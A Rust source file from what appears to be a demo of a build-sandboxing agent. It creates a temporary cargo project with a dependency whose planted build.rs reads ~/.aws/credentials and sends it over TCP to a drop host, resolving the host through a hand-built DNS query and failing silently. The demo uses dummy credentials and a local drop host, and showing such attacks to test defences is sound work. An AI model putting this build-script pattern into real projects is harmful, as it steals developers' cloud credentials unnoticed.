//! The project that the demo builds, with a home and a cargo home of its own.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::{env, fs};

use anyhow::{Context, Result};
use kernel_toolchain::Compiler;
use tempfile::TempDir;

use super::drop_host;
use super::namespace::DROP_HOST;

/// The real dependencies are small, and bring dependencies of their own.
const MANIFEST: &str = r#"[package]
name = "demo"
version = "0.1.0"
edition = "2021"

[dependencies]
itoa = "1"
serde_json = "1"
tidy-version = { path = "tidy-version" }

[workspace]
"#;

const MAIN: &str = r#"fn main() {
    let mut buffer = itoa::Buffer::new();
    let built = serde_json::json!({ "built": buffer.format(1), "version": tidy_version::VERSION });
    println!("{built}");
}
"#;

const PLANTED_MANIFEST: &str = r#"[package]
name = "tidy-version"
version = "0.1.0"
edition = "2021"
"#;

const PLANTED_LIB: &str = "pub const VERSION: &str = env!(\"CARGO_PKG_VERSION\");\n";

/// What the planted build script does: read, ask, carry. Every step is quiet about its failure, as such scripts are. Where the
/// name is refused it has the address built in.
const PLANTED_BUILD: &str = r#"use std::io::Write;
use std::net::{TcpStream, UdpSocket};
use std::time::Duration;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let _ = carry();
}

fn carry() -> Option<()> {
    let home = std::env::var("HOME").ok()?;
    let secret = std::fs::read(format!("{home}/.aws/credentials")).ok()?;
    let address = resolve("NAME").unwrap_or([ADDRESS]);
    let mut stream = TcpStream::connect_timeout(&(address, PORT).into(), Duration::from_secs(5)).ok()?;
    stream.write_all(&secret).ok()
}

/// One DNS question, asked of the drop host itself; the address is the end of its answer, if there is one.
fn resolve(name: &str) -> Option<[u8; 4]> {
    let mut query = vec![0x5e, 0xed, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        query.push(label.len() as u8);
        query.extend(label.bytes());
    }
    query.extend([0, 0, 1, 0, 1]);
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    socket.send_to(&query, "RESOLVER:53").ok()?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer).ok()?;
    if answer[7] == 0 {
        return None;
    }
    answer[length.checked_sub(4)?..length].try_into().ok()
}
"#;

/// Made up; nothing accepts it.
const DUMMY_SECRET: &str = "[default]\n\
                            aws_access_key_id = DUMMY-KEY-OF-THE-RUNNER-AGENT-DEMO\n\
                            aws_secret_access_key = dummy-secret-that-opens-nothing\n";

/// Everything lies in one temporary folder, which goes away with this value.
pub struct Project {
    folder: TempDir,
    cargo: PathBuf,
    rustc: PathBuf,
}

impl Project {
    pub fn create(compiler: &Compiler) -> Result<Self> {
        let folder = tempfile::Builder::new().prefix("runner-agent-demo-").tempdir().context("a temporary folder")?;
        let planted = PLANTED_BUILD
            .replace("NAME", drop_host::NAME)
            .replace("PORT", &format!("{}_u16", drop_host::PORT))
            .replace("RESOLVER", &DROP_HOST.to_string())
            .replace("ADDRESS", &DROP_HOST.octets().map(|octet| octet.to_string()).join(", "));
        for (path, text) in [
            ("project/Cargo.toml", MANIFEST),
            ("project/src/main.rs", MAIN),
            ("project/tidy-version/Cargo.toml", PLANTED_MANIFEST),
            ("project/tidy-version/src/lib.rs", PLANTED_LIB),
            ("project/tidy-version/build.rs", &planted),
            ("home/.aws/credentials", DUMMY_SECRET),
        ] {
            write(&folder.path().join(path), text)?;
        }
        let cargo_home = folder.path().join("cargo-home");
        fs::create_dir_all(&cargo_home).context("the demo's cargo home")?;
        copy_registry_settings(&cargo_home)?;
        Ok(Self { folder, cargo: compiler.cargo.clone(), rustc: compiler.rustc.clone() })
    }

    /// Appends `cargo build` to the agent's command line, and sets where it runs.
    pub fn build_command(&self, command: &mut Command) {
        // What `cargo run` set for this program is no business of the demo's build.
        for (name, _) in env::vars_os() {
            let text = name.to_string_lossy();
            let about_this_build =
                ["CARGO_MANIFEST_", "CARGO_PKG_", "CARGO_TARGET_", "CARGO_BUILD_", "RUSTUP_TOOLCHAIN"];
            if about_this_build.iter().any(|prefix| text.starts_with(prefix)) || text == "RUSTFLAGS" {
                command.env_remove(&name);
            }
        }
        let folder = self.folder.path();
        // The agent keeps this machine's CARGO_HOME, from which the policy learns the registry's hosts; the build gets
        // an empty one, so that it fetches what it needs before everybody's eyes.
        let own = own_cargo_home().unwrap_or_else(|| folder.join("cargo-home"));
        let mut build_home = std::ffi::OsString::from("CARGO_HOME=");
        build_home.push(folder.join("cargo-home"));
        command
            .arg("env")
            .arg(build_home)
            .arg(&self.cargo)
            .arg("build")
            .current_dir(folder.join("project"))
            .env("HOME", folder.join("home"))
            .env("CARGO_HOME", own)
            .env("CARGO_TARGET_DIR", folder.join("target"))
            .env("RUSTC", &self.rustc)
            .stdin(Stdio::null());
    }
}

fn write(path: &Path, text: &str) -> Result<()> {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).with_context(|| parent.display().to_string())?;
    }
    fs::write(path, text).with_context(|| path.display().to_string())
}

fn own_cargo_home() -> Option<PathBuf> {
    env::var_os("CARGO_HOME").map(PathBuf::from).or_else(|| env::home_dir().map(|home| home.join(".cargo")))
}

/// The registry that this machine is configured for: its settings, never its credentials.
fn copy_registry_settings(cargo_home: &Path) -> Result<()> {
    let own = own_cargo_home();
    for name in ["config.toml", "config"] {
        let Some(settings) = own.as_ref().map(|own| own.join(name)).filter(|settings| settings.is_file()) else {
            continue;
        };
        fs::copy(&settings, cargo_home.join(name)).with_context(|| settings.display().to_string())?;
    }
    Ok(())
}
